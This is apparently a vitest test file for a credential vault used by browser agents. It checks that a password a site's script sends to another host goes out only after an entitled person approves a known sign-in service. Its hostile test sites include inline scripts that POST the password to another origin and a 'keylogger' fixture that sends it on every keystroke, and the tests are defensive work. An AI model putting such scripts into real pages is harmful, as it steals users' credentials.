import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Pages } from '../../activities/browser/index.js';
import { isSignInService, sendToIds } from '../../contract/invocation/send-to.js';
import services from '../../contract/invocation/sign-in-services.json' with { type: 'json' };
import type { FillResult, PageHandle } from '../../contract/steps.js';
import { ANSWER, type Bench, bench, inputOf, QUICK, testPages } from '../engine/login/harness.js';
import { type HostileSite, loginForm, type Places, type Site, serveHostile, WELCOME } from '../sites/hostile/serve.js';
import { variants } from '../support/variants.js';
import { begin, closing, codeOf, grant, newInvocationId, openTestVault } from '../vault/support/vault.js';

/**
 * A site's own script sends the password to a sign-in service of another owner. For services that all their customers share, a person may say that this is
 * right, once for each agent. Nobody else, and for no other host, but an admin key.
 */
const VALUES = { email: 'anna.lindqvist@example.com', password: 'Tr0ub4dor & Zebra' };
const KNOWN = [...services];

let pages: Pages;
beforeAll(async () => {
  pages = await testPages();
});
afterAll(() => pages.closeAll());
afterEach(() => void services.splice(0, services.length, ...KNOWN));

interface Run {
  readonly b: Bench;
  readonly site: HostileSite;
  /** Opens the login and gives it all that it asks for. */
  logIn(): Promise<{ readonly page: PageHandle; readonly end: FillResult }>;
  choose(page: PageHandle, end: FillResult, id: string, answer?: object): Promise<FillResult>;
}

const bySubmit = (send: string): string => `${loginForm()}<script>document.forms[0].onsubmit = async (event) => {
  event.preventDefault();
  const body = JSON.stringify({ password: password.value });
  ${send}
};</script>`;
const toService = ({ other }: Places): string => `
  const answer = await fetch('${other}/take', { method: 'POST', body });
  if (answer.ok) document.body.innerHTML = ${JSON.stringify(WELCOME)};`;

/** A shop whose script sends the password to a host that is on the list as long as it lasts, unless it is `stranger`. */
async function onShop(
  { stranger = false, own = (places: Places): Site => ({ '/': bySubmit(toService(places)) }) },
  run: (run: Run) => Promise<void>,
): Promise<void> {
  const site = await serveHostile(own, () => ({ 'POST /take': 'ok' }));
  if (!stranger) services.push(site.otherHost);
  const b = bench(pages, site.host, { login: { timeouts: QUICK } });
  try {
    await run({
      b,
      site,
      async logIn() {
        const { page, outcome } = await b.open();
        return { page, end: await b.fill(page, inputOf(outcome), VALUES) };
      },
      choose: (page, end, id, answer = ANSWER) =>
        b.activities.chooseOption({
          ...b.ref,
          page,
          signature: inputOf(end).signature,
          choice: { sign_in_option: id },
          answer: answer as typeof ANSWER,
        }),
    });
  } finally {
    await site.stop();
    b.clean();
  }
}

const NOT_ALLOWED = { kind: 'failed', code: 'domain_not_allowed' };
const close = ({ b }: Run, page: PageHandle) => b.activities.closePage({ ...b.ref, page });

describe('a password that the script of the site sends to a well-known sign-in service', () => {
  it('waits for a person, and after a yes the login is opened again and goes on, this time and from then on', () =>
    onShop({}, async (run) => {
      const { b, site } = run;
      const { page, end } = await run.logIn();
      const asked = inputOf(end);
      const { allow, deny } = sendToIds(site.otherHost);
      expect(asked.fields).toEqual([]);
      expect(asked.sign_in_options.map(({ id }) => id)).toEqual([allow, deny]);
      expect(asked.sign_in_options[0]?.description).toBe(
        `${site.host} sends the password to ${site.otherHost}: is that right?`,
      );
      expect(end).toMatchObject({ left: 'not_sent' });
      expect(site.taken).toEqual([]);
      // Whoever says yes without being somebody who may, is asked again.
      const { entitlement: _, ...bare } = ANSWER;
      expect(await run.choose(page, end, allow, bare)).toMatchObject({ kind: 'not_entitled' });
      expect(b.vault.grant.send_to).toEqual([]);
      await expect(run.choose(page, end, allow)).rejects.toMatchObject({ type: 'PageLost' });

      const again = await run.logIn();
      expect(again.end).toMatchObject({ kind: 'authenticated' });
      expect(site.taken).toHaveLength(1);
      await close(run, again.page);
    }));

  it.each(
    variants(0, [
      'is shown as in history without the words of the question, and with the host in the names of the answers',
    ]),
  )('%s', () =>
    onShop({}, async ({ b, site }) => {
      const { page, outcome } = await b.open();
      const sealed = await b.sealed.fillFields(b.step(page, inputOf(outcome), VALUES));
      const { allow, deny } = sendToIds(site.otherHost);
      expect(inputOf(sealed).sign_in_options).toEqual([
        { id: allow, label: '', description: null },
        { id: deny, label: '', description: null },
      ]);
      await b.activities.closePage({ ...b.ref, page });
    }),
  );

  it('goes nowhere after a no, which ends the login', () =>
    onShop({}, async (run) => {
      const { b, site } = run;
      const { page, end } = await run.logIn();
      const details = { host: site.otherHost, how: 'script', add: 'send_to' };
      const no = await run.choose(page, end, sendToIds(site.otherHost).deny);
      expect(no).toMatchObject({ ...NOT_ALLOWED, details });
      expect(site.taken).toEqual([]);
      expect(b.vault.grant.send_to).toEqual([]);
      await close(run, page);
    }));

  it.each(variants(0, ['is answered on the next page, where the one that asked is lost']))('%s', () =>
    onShop({}, async (run) => {
      const { page, end } = await run.logIn();
      await close(run, page);
      const { allow } = sendToIds(run.site.otherHost);
      const next = await run.b.open();
      await expect(run.choose(next.page, end, allow)).rejects.toMatchObject({ type: 'PageLost' });
      const last = await run.b.open();
      const form = await run.choose(last.page, end, allow);
      expect(await run.b.fill(last.page, inputOf(form), VALUES)).toMatchObject({ kind: 'authenticated' });
      await close(run, last.page);
    }),
  );

  const keylogger = ({ other }: Places): Site => ({
    '/': `${loginForm()}<script>password.oninput = () => fetch('${other}/take', { method: 'POST', body: password.value });</script>`,
    'POST /login': WELCOME,
  });

  const ASKS_NOTHING: [string, { stranger?: boolean; own?: (places: Places) => Site; attended?: boolean }, object][] = [
    ['to nobody who is there', { attended: false }, { ...NOT_ALLOWED, details: { how: 'script' } }],
    ['to a host that is not on the list', { stranger: true }, { ...NOT_ALLOWED, details: { how: 'script' } }],
    [
      'by a form, which no person can allow',
      { own: ({ other }) => ({ '/': loginForm('', `onsubmit="action='${other}/take'"`) }) },
      { ...NOT_ALLOWED, details: { how: 'form' } },
    ],
    ['beside the site itself, which got it', { own: keylogger }, { kind: 'authenticated' }],
  ];
  it.each(variants(1, ASKS_NOTHING))('asks nothing where it goes %s', (_, { attended = true, ...kind }, expected) =>
    onShop(kind, async (run) => {
      run.b.vault.attended = attended;
      const { page, end } = await run.logIn();
      expect(end).toMatchObject(expected);
      expect(run.site.taken).toEqual([]);
      await close(run, page);
    }),
  );
});

describe('the vault', () => {
  const HOST = 'cognito-idp.eu-central-1.amazonaws.com';
  const { allow, deny } = sendToIds(HOST);

  async function withLogin(type: 'login' | 'reauth' = 'login') {
    const t = await openTestVault();
    const agent = await grant(t.admin, 'shop.example');
    const login = await begin(
      t.vault,
      agent.id,
      newInvocationId(),
      type === 'login' ? { access_key: t.accessKey } : null,
    );
    const says = async (id: string, proof?: { access_key: string }) => ({
      ...login.ref,
      ...(await login.entitle({ sign_in_option_id: id }, 1, proof)),
      choice: { sign_in_option: id },
    });
    const sendTo = async () => (await t.vault.grantOf(agent.id)).send_to;
    return { ...t, vault: t.vault, ref: login.ref, says, sendTo };
  }

  it('adds a host to the grant when somebody who may answer says so, and only then', async () => {
    const { vault, ref, says, sendTo } = await withLogin();
    expect(await vault.decideSendTo(await says(allow))).toBe('not_asked');
    expect(await vault.askSendTo(ref, HOST)).toBe(true);
    const stranger = { access_key: `aak.ak_stranger1.${'x'.repeat(43)}.${'y'.repeat(43)}` };
    expect(await vault.decideSendTo(await says(allow, stranger))).toBe('not_entitled');
    // An answer to another question, moved to this one.
    expect(await vault.decideSendTo({ ...(await says(deny)), choice: { sign_in_option: allow } })).toBe('not_entitled');
    expect(await vault.decideSendTo(await says(deny))).toBe('denied');
    const other = sendToIds('cognito-idp.eu-west-1.amazonaws.com').allow;
    expect(await vault.decideSendTo(await says(other))).toBe('not_asked');
    expect(await sendTo()).toEqual([]);
    expect(await vault.decideSendTo(await says(allow))).toBe('allowed');
    expect(await sendTo()).toEqual([HOST]);
    // What was said once is not asked again.
    expect(await vault.askSendTo(ref, HOST)).toBe(false);
  });

  it.each(
    variants(2, [
      'evil.example',
      'shop.auth0.com',
      'shop.okta.com',
      'abc.supabase.co',
      'x.clerk.accounts.dev',
      `a.${HOST}`,
    ] as const),
  )('asks nobody about %s', async (host) => {
    const { vault, ref, says } = await withLogin();
    expect(await vault.askSendTo(ref, host)).toBe(false);
    expect(await vault.decideSendTo(await says(`send-to:${host}`))).toBe('not_asked');
    expect(isSignInService(host)).toBe(false);
  });

  it('asks nobody in a login that its agent began by itself, until somebody has answered in it', async () => {
    const { vault, ref } = await withLogin('reauth');
    expect(await vault.askSendTo(ref, HOST)).toBe(false);
    await vault.noteChoice(ref);
    expect(await vault.askSendTo(ref, HOST)).toBe(true);
  });

  it('takes no answer to a login that has ended', async () => {
    const { vault, ref, says } = await withLogin();
    await vault.askSendTo(ref, HOST);
    const answer = await says(allow);
    await vault.closeInvocation(closing(ref, { status: 'CANCELED' }));
    expect(await codeOf(vault.decideSendTo(answer))).toBe('invocation_ended');
  });
});
